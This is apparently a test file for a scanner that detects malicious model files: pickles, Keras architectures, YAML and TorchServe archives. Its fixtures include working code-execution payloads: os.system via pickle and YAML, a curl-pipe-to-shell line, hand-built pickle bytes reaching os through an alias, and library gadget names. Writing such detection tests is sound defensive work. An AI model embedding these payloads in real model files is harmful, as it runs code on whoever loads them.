// What the published tables do not name: functions of any library that get a program as text, roundabout names, and the files beside
// models that act. Each case has an ordinary counterpart.
import { describe, expect, it } from '@jest/globals'
import { textKind } from '../../../../agent/read/scan/argument-kind.ts'
import { scanLooseConfig } from '../../../../agent/read/scan/scan-loose-config.ts'
import { scanMar } from '../../../../agent/read/scan/scan-mar.ts'
import { type Py, buildPickle } from '../../../build-pickle.ts'
import { buildZip } from '../../../build-zip.ts'
import { judgeBytes } from './judge-bytes.ts'
import { scanPickle } from '../../../../agent/read/scan/scan-pickle.ts'

const PROGRAM = "__import__('os').system('id')"

async function judgeCall(call: string, ...args: readonly Py[]) {
  return judgeBytes(scanPickle, buildPickle({ call, args }), 'model.pkl')
}

const threatsOf = ({ threats }: { readonly threats: readonly { readonly id: string }[] }) => threats.map(({ id }) => id)

describe('a pickle', () => {
  it.each([
    ['a function of an unknown library that gets Python', 'python-runs-argument', 'some_lab.tools.apply', [PROGRAM]],
    ['one that gets a command line', 'python-runs-argument', 'some_lab.tools.apply', ['curl http://192.0.2.1/x | sh']],
    ['one whose name says what it does', 'python-telling-functions', 'some_lab.tools.run_command', ['id']],
    ['a module behind a private alias', 'python-walks-through-modules', 'random._os.walker', ['id']],
    ['a part of the standard library', 'python-standard-gadgets', 'mailcap.findmatch', ['a']],
    ['a part of another library', 'python-library-doors', 'torch._utils._import_dotted_name', ['os.system']],
    ['an attribute that leads into Python', 'python-reaches-inside', 'builtins.getattr', [1, '__class__']],
  ] as const)('with %s is malicious', async (_, threat, name, args) => {
    // A dotted name is one text behind the module, as protocol 4 writes it.
    const [module = '', ...rest] = name.split('.')
    const bytes = name.includes('._os.')
      ? Buffer.concat([
          Buffer.from([0x80, 4, 0x8c, module.length]),
          Buffer.from(module),
          Buffer.from([0x8c, rest.join('.').length]),
          Buffer.from(rest.join('.')),
          Buffer.from('\u0093X\u0002\0\0\0id\u0085R.', 'latin1'),
        ])
      : buildPickle({ call: name, args })
    const judged = await judgeBytes(scanPickle, bytes, 'model.pkl')
    expect(threatsOf(judged)).toContain(threat)
    expect(judged.verdict).toBe('malicious')
  })

  it('whose name is the result of a call is malicious', async () => {
    const name = buildPickle({ call: 'builtins.str', args: ['posix'] }, { end: new Uint8Array() })
    const bytes = Buffer.concat([name, Buffer.from('\u008c\u0006system\u0093.', 'latin1')])
    expect(threatsOf(await judgeBytes(scanPickle, bytes, 'model.pkl'))).toContain('pickle-computes-names')
  })

  it.each([
    ['some_lab.layers.Dense', ['relu (fast)', 3]],
    ['pandas.core.frame.DataFrame', [null]],
    ['tensorflow.python.framework.dtypes.as_dtype', ['float32']],
    ['some_lab.Model.rebuild', ['import of the first batch', 2]],
  ] as const)('that calls %s with ordinary values is accused of nothing worse than that', async (name, args) => {
    expect((await judgeCall(name, ...args)).verdict).not.toBe('malicious')
  })
})

describe('the kind of a text', () => {
  it.each([
    [PROGRAM, 'python-text'],
    ['import socket,subprocess,os;s=1', 'python-text'],
    ['bash -c "id"', 'shell-text'],
    ['relu (fast)', 'text'],
    ['evaluation (top 5)', 'text'],
    ['please import the data from os', 'text'],
  ])('%s', (text, kind) => {
    expect(textKind(text)).toBe(kind)
  })
})

describe('a file beside models', () => {
  const network = (layer: object) =>
    Buffer.from(JSON.stringify({ class_name: 'Sequential', config: { layers: [{ class_name: 'InputLayer' }, layer] } }))

  it('that is an architecture of Keras with a call of TensorFlow that reads files is malicious', async () => {
    const layer = { class_name: 'TFOpLambda', config: { function: 'io.read_file' } }
    const judged = await judgeBytes(scanLooseConfig, network(layer), 'architecture.json')
    expect(threatsOf(judged)).toContain('keras-tensorflow-functions-act')
    const adds = { class_name: 'TFOpLambda', config: { function: 'math.add' } }
    expect(threatsOf(await judgeBytes(scanLooseConfig, network(adds), 'architecture.json'))).toEqual([])
  })

  it('that is one operator in a layer is judged by the operator', async () => {
    const layer = { class_name: 'TensorFlowOpLayer', config: { node_def: '{"name": "r", "op": "ReadFile"}' } }
    expect(threatsOf(await judgeBytes(scanLooseConfig, network(layer), 'architecture.json'))).toContain(
      'graph-reads-files',
    )
  })

  it('that is YAML which has Python called is malicious', async () => {
    const judged = await judgeBytes(scanLooseConfig, Buffer.from('a: !!python/object/apply:os.system [id]\n'), 'a.yaml')
    expect(judged.verdict).toBe('malicious')
  })

  it('that is an archive of TorchServe is told with what its handler starts', async () => {
    const manifest = { name: 'MAR-INF/MANIFEST.json', data: Buffer.from('{"model":{"handler":"h.py"}}') }
    const handler = (text: string) => buildZip([manifest, { name: 'h.py', data: Buffer.from(text) }])
    const judged = await judgeBytes(scanMar, handler('import os\nos.system("id")\n'), 'a.mar')
    expect(threatsOf(judged)).toContain('code-runs-programs')
    const ordinary = await judgeBytes(scanMar, handler('import torch\n\nclass H:\n    pass\n'), 'a.mar')
    expect(ordinary.threats.filter(({ effect }) => effect !== 'notable')).toEqual([])
  })
})
